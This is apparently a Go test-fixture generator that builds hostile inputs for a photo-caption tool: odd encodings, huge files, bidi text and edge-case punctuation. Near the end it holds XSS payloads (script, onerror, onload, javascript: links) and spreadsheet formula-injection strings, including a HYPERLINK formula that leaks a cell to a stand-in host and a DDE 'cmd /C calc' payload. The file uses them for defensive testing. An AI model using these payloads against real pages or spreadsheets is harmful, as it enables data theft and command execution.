package hostile

import (
	"bufio"
	"fmt"
	"strings"
	"unicode/utf16"
)

// Invented captions: people, agencies and scenes made up for this project.
var (
	people   = []string{"Mira Kovač", "Daniel Osei", "Ines Faria", "Yusuf Demir", "Hana Sato", "Pavel Lind", "Zoé Marchetti"}
	agencies = []string{"Riverside Photo", "Coastline Images", "Meridian Press"}
	places   = []string{"Aleppo, Syria", "Mosul, Iraq", "Kharkiv, Ukraine", "Idlib, Syria", "Basra, Iraq"}
	scenes   = []string{
		"Children play football between tents",
		"A man repairs a bicycle outside a shelter",
		"Workers unload sacks of flour from a truck",
		"Smoke rises over rooftops at dawn",
		"A woman carries bread across a square",
		"Students sit an exam in a damaged classroom",
	}
	months = []string{"February", "April", "June", "August", "October", "December"}
)

// Caption is the i-th invented caption: a scene, a place, a date and a credit, every
// one different.
func Caption(i int) string {
	return fmt.Sprintf("%s in %s, on %s %d, %d, scene %d. (Photo by %s/%s)",
		scenes[i%len(scenes)], places[(i/2)%len(places)], months[(i/3)%len(months)],
		1+i%27, 2011+i%9, i, people[i%len(people)], agencies[(i/4)%len(agencies)])
}

// Captions is n captions from the first, each followed by sep.
func Captions(first, n int, sep string) string {
	var b strings.Builder
	for i := first; i < first+n; i++ {
		b.WriteString(Caption(i))
		b.WriteString(sep)
	}
	return b.String()
}

// utf16Case writes captions in UTF-16, big- or little-endian, with or without a mark.
func utf16Case(name string, bigEndian, bom bool) func(*writer) Case {
	return func(w *writer) Case {
		text := Captions(200, 10, "\r\n\r\n")
		var out []byte
		if bom {
			out = appendUnit(out, 0xFEFF, bigEndian)
		}
		for _, u := range utf16.Encode([]rune(text)) {
			out = appendUnit(out, u, bigEndian)
		}
		enc := "utf-16le"
		if bigEndian {
			enc = "utf-16be"
		}
		what := "UTF-16 " + map[bool]string{false: "LE", true: "BE"}[bigEndian] +
			map[bool]string{false: " without a byte order mark", true: " with a byte order mark"}[bom]
		return Case{Name: name, What: what, Files: []string{w.file(name+".txt", out)},
			Captions: 10, Encoding: enc, Text: []string{"Mira Kovač", "Zoé Marchetti"}}
	}
}

func appendUnit(out []byte, u uint16, bigEndian bool) []byte {
	if bigEndian {
		return append(out, byte(u>>8), byte(u))
	}
	return append(out, byte(u), byte(u>>8))
}

// legacy encodes text in a single-byte code page given as a map of the non-ASCII
// runes it needs; a rune it lacks is a bug of the case.
func legacy(text string, table map[rune]byte) []byte {
	out := make([]byte, 0, len(text))
	for _, r := range text {
		switch b, ok := table[r]; {
		case r < 0x80:
			out = append(out, byte(r))
		case ok:
			out = append(out, b)
		default:
			panic(fmt.Sprintf("hostile: no byte for %q", r))
		}
	}
	return out
}

var cp1252 = map[rune]byte{'“': 0x93, '”': 0x94, '‘': 0x91, '’': 0x92, '–': 0x96, '—': 0x97, 'é': 0xE9, 'ü': 0xFC, 'ñ': 0xF1, 'ç': 0xE7, '…': 0x85}

var cp1250 = map[rune]byte{'š': 0x9A, 'Š': 0x8A, 'ć': 0xE6, 'č': 0xE8, 'Č': 0xC8, 'ž': 0x9E, 'đ': 0xF0, '“': 0x93, '”': 0x94, '„': 0x84}

func cp1252Quotes(w *writer) Case {
	text := "“We have nothing left,” says a farmer near Mosul, Iraq, on April 3, 2017. The village’s well is dry – again. (Photo by José Núñez/Meridian Press)\r\n\r\n" +
		"A café owner in Aleppo, Syria, sweeps glass from the floor on June 9, 2016, after the night’s shelling. (Photo by Léa Müller/Riverside Photo)\r\n"
	cp := map[rune]byte{'ú': 0xFA, 'á': 0xE1}
	for r, b := range cp1252 {
		cp[r] = b
	}
	return Case{Name: "cp1252-quotes", What: "Windows-1252 with curly quotes",
		Files:    []string{w.file("cp1252.txt", legacy(text, cp))},
		Captions: 2, Encoding: "windows-1252", Text: []string{"“We have nothing left,”", "village’s", "Léa Müller"}}
}

func cp1250Names(w *writer) Case {
	text := "Residents queue for water in Kharkiv, Ukraine, on August 14, 2022. (Photo by Dragan Tomašević/Coastline Images)\n\n" +
		"Firefighters work at a burning depot in Kharkiv, Ukraine, on August 15, 2022. (Photo by Ivana Čičić/Coastline Images)\n\n" +
		"A priest walks through the ruins of a church near Kharkiv on August 16, 2022. (Photo by Dragan Tomašević/Coastline Images)\n"
	cp := map[rune]byte{'ć': 0xE6, 'Č': 0xC8, 'č': 0xE8, 'š': 0x9A}
	for r, b := range cp1250 {
		cp[r] = b
	}
	return Case{Name: "cp1250-names", What: "Windows-1250 names (Tomašević)",
		Files:    []string{w.file("cp1250.txt", legacy(text, cp))},
		Captions: 3, Encoding: "windows-1250", Text: []string{"Tomašević", "Čičić"}, NotText: []string{"Tomaševiæ"}}
}

// mojibake is UTF-8 that was once read as Latin-1 and saved again as UTF-8.
func mojibake(w *writer) Case {
	good := "Flood water covers a street in Jönköping, Sweden, on May 2, 2019. (Photo by Åsa Öberg/Riverside Photo)\n\n" +
		"Rescuers wade through Jönköping, Sweden, on May 3, 2019. (Photo by Åsa Öberg/Riverside Photo)\n"
	var bad strings.Builder
	for _, b := range []byte(good) {
		bad.WriteRune(rune(b)) // each UTF-8 byte read as a Latin-1 character
	}
	return Case{Name: "mojibake", What: "UTF-8 read as Latin-1 (JÃ¶nkÃ¶ping)",
		Files:    []string{w.file("mojibake.txt", []byte(bad.String()))},
		Captions: 2, Text: []string{"Jönköping", "Åsa Öberg"}, NotText: []string{"Ã¶"}, Note: "latin-1"}
}

func mixedLineEnds(w *writer) Case {
	var b strings.Builder
	ends := []string{"\r\n\r\n", "\n\n", "\r\n\n", "\r\r", "\n\r\n"}
	for i := 0; i < 10; i++ {
		c := Caption(300 + i)
		half := strings.Index(c, " on ")
		b.WriteString(c[:half] + []string{"\r\n", "\n", "\r"}[i%3] + c[half+1:]) // a caption over two lines
		b.WriteString(ends[i%len(ends)])
	}
	return Case{Name: "mixed-line-ends", What: "CRLF, LF and CR line ends mixed",
		Files: []string{w.file("mixed-eol.txt", []byte(b.String()))}, Captions: 10}
}

// longLine is a one-line dump: captions with no newline at all.
func longLine(size int, big bool) func(*writer) Case {
	return func(w *writer) Case {
		name := fmt.Sprintf("one-line-%dMB", size>>20)
		p := w.stream(name+".txt", func(b *bufio.Writer) error {
			for i, n := 0, 0; n < size; i++ {
				c := Caption(i) + " "
				if n+len(c) > size {
					c = strings.Repeat("x", size-n)
				}
				k, err := b.WriteString(c)
				if err != nil {
					return err
				}
				n += k
			}
			return nil
		})
		return Case{Name: name, What: fmt.Sprintf("one line of %d MB, no newline", size>>20), Files: []string{p}, Big: big, Note: "line"}
	}
}

// huge is a 1 GB file of captions: it must be streamed, or refused with a message.
func huge(w *writer) Case {
	p := w.stream("huge-1GB.txt", func(b *bufio.Writer) error {
		for i, n := 0, 0; n < HugeSize; i++ {
			c := Caption(i) + "\n\n"
			if n+len(c) > HugeSize {
				c = strings.Repeat("\n", HugeSize-n)
			}
			k, err := b.WriteString(c)
			if err != nil {
				return err
			}
			n += k
		}
		return nil
	})
	return Case{Name: "huge-1GB", What: "a 1 GB file of captions", Files: []string{p}, Big: true, Captions: 1000}
}

// many is a folder of ManyFiles small files, one caption each.
func many(w *writer) Case {
	c := Case{Name: "many-files", What: fmt.Sprintf("%d small files at once", ManyFiles), Captions: ManyFiles}
	c.Dir = w.dir + "/many"
	for i := 0; i < ManyFiles; i++ {
		c.Files = append(c.Files, w.file(fmt.Sprintf("many/%05d.txt", i), []byte(Caption(1000+i)+"\n")))
	}
	return c
}

// bigCaption is one paragraph of CaptionMB bytes: lines of words, a credit at the end.
func bigCaption(w *writer) Case {
	var b strings.Builder
	for i := 0; b.Len() < CaptionMB-200; i++ {
		b.WriteString(scenes[i%len(scenes)])
		b.WriteString(" and")
		if i%8 == 7 {
			b.WriteString("\n")
		} else {
			b.WriteString(" ")
		}
	}
	b.WriteString("then the convoy left Idlib, Syria, on June 1, 2018. (Photo by Hana Sato/Meridian Press)\n")
	return Case{Name: "caption-1MB", What: "one caption paragraph of 1 MB", Files: []string{w.file("caption-1MB.txt", []byte(b.String()))}, Captions: 1}
}

// punctuation is deeply repeated punctuation around and between real captions.
func punctuation(w *writer) Case {
	var b strings.Builder
	for _, p := range []string{"(", ")", "[", "\"", "'", ".", "!", "?", "-", "/", "…", "«", "»", ",", "*", "|"} {
		b.WriteString(strings.Repeat(p, 20000) + "\n\n")
	}
	b.WriteString(Caption(400) + "\n\n")
	b.WriteString(strings.Repeat("((((", 1000) + Caption(401) + strings.Repeat("))))", 1000) + "\n\n")
	b.WriteString(strings.Repeat("(Photo by ", 2000) + "\n\n")
	b.WriteString(strings.Repeat("on May 3, ", 2000) + "\n\n")
	b.WriteString(strings.Repeat("in Aleppo, ", 2000) + "\n\n")
	b.WriteString(Caption(402) + "\n")
	return Case{Name: "punctuation", What: "deeply repeated punctuation, credits, dates and places",
		Files: []string{w.file("punctuation.txt", []byte(b.String()))}, Captions: 3}
}

// rtlArabic has captions in Arabic script and Latin captions with Arabic names and
// bidirectional control characters.
func rtlArabic(w *writer) Case {
	text := "أطفال يلعبون بين الخيام في إدلب، سوريا، يوم 3 أيار 2019. (تصوير يوسف دمير/ميريديان برس)\n\n" +
		"A man holds a sign reading \u202Bلا للحرب\u202C in Idlib, Syria, on May 4, 2019. (Photo by Yusuf Demir/Meridian Press)\n\n" +
		"\u200FMarket day in Basra, Iraq, on May 5, 2019, near the \u202Eshrine\u202C. (Photo by Hana Sato/Riverside Photo)\n"
	return Case{Name: "rtl-arabic", What: "right-to-left text and Arabic script in captions",
		Files: []string{w.file("rtl-arabic.txt", []byte(text))}, Captions: 3, Text: []string{"لا للحرب", "إدلب"}}
}

// Markup are captions that hold HTML and script; the page must show them as text.
var Markup = []string{
	`<script>window.__hostile = 1</script>Children play near a bus in Idlib, Syria, on March 2, 2020. (Photo by Ines Faria/Riverside Photo)`,
	`<img src=x onerror="window.__hostile=2">A market reopens in Mosul, Iraq, on March 3, 2020. (Photo by Pavel Lind/Coastline Images)`,
	`A boy reads a sign "</textarea><svg onload=window.__hostile=3>" in Basra, Iraq, on March 4, 2020. (Photo by Hana Sato/Meridian Press)`,
	`<a href="javascript:window.__hostile=4">Aid</a> arrives in Aleppo, Syria, on March 5, 2020. (Photo by Daniel Osei/Riverside Photo)`,
}

func htmlScript(w *writer) Case {
	return Case{Name: "html-script", What: "HTML and script inside captions",
		Files:    []string{w.file("markup.txt", []byte(strings.Join(Markup, "\n\n")+"\n"))},
		Captions: len(Markup), Text: []string{"<script>window.__hostile = 1</script>", `onerror="window.__hostile=2"`}}
}

// Formulas are captions that a spreadsheet would run as formulas.
var Formulas = []string{
	`=HYPERLINK("http://example.invalid/?leak="&A1,"Click for the full caption") Residents gather in Aleppo, Syria, on May 1, 2016. (Photo by Mira Kovač/Riverside Photo)`,
	`+1+cmd|' /C calc'!A0 Smoke rises over Idlib, Syria, on May 2, 2016. (Photo by Yusuf Demir/Meridian Press)`,
	`-2+3 A convoy passes through Mosul, Iraq, on May 3, 2016. (Photo by Daniel Osei/Coastline Images)`,
	`@SUM(1+1) Students return to school in Basra, Iraq, on May 4, 2016. (Photo by Hana Sato/Riverside Photo)`,
}

func formulas(w *writer) Case {
	return Case{Name: "csv-formulas", What: "captions that begin like spreadsheet formulas",
		Files:    []string{w.file("formulas.txt", []byte(strings.Join(Formulas, "\n\n")+"\n"))},
		Captions: len(Formulas), Text: []string{`=HYPERLINK("http://example.invalid/`}}
}
